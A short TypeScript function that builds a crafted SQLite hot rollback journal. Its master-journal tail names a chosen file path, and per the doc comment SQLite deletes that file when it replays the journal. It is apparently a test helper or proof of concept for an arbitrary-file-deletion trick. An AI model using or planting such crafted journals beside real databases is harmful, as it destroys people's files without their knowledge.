/** A rollback journal without pages whose end names a file that SQLite removes after playing it back. */
export function hotJournalOf(path: string): Buffer {
  const magic = Buffer.from('d9d505f920a163d7', 'hex');
  const head = Buffer.alloc(512);
  magic.copy(head);
  for (const [offset, value] of [
    [16, 2],
    [20, 512],
    [24, 4096],
  ] as const)
    head.writeUInt32BE(value, offset);
  const name = Buffer.from(path);
  const tail = Buffer.alloc(name.length + 20);
  tail.writeUInt32BE(0x4000_0000 / 4096 + 1, 0);
  name.copy(tail, 4);
  tail.writeUInt32BE(name.length, 4 + name.length);
  tail.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    8 + name.length,
  );
  magic.copy(tail, 12 + name.length);
  return Buffer.concat([head, tail]);
}
